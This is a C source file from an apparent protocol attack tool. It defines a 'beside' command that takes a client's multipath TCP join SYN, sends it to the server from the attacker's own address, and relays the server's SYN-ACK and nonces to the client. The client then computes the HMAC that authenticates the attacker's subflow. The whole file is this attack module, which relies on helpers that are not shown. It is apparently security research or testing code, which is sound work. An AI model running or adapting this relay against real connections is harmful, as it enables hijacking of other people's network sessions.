// SPDX-License-Identifier: GPL-2.0-only
/*
 * Beside the path of a join of the client's, from which nothing is held back: the same SYN goes
 * to the server from the attacker's own address, and what the server answers there to the
 * client, before its own answer comes. The client makes the HMAC for the attacker's join.
 */
#include <stdio.h>

#include "attacker.h"

/* join_path=N is the one of the client's join; from=ADDR and path=N are the attacker's */
bool cmd_beside(void)
{
	int path = (int)arg_number("join_path", "2") - 1;
	const struct connection *x = arg_connection("conn");
	struct frame frame, syn_frame;
	struct segment segment, syn;
	struct attempt attempt;
	uint8_t *join;

	if (!x)
		return false;
	watch = true;
	join = next_join(JOIN_SYN_LEN, now_ms() + 20 * patience_ms, &syn_frame,
			 &syn);
	if (!join) {
		printf(" no-join");
		return true;
	}
	if (!copy_answered(&attempt, x, join))
		return true;
	send_synack(path, CLIENT, &syn, attempt.synack, attempt.nonces[SERVER]);
	join = next_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
			 &segment);
	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
	if (join)
		end_join(&attempt, x, join + 4);
	return true;
}
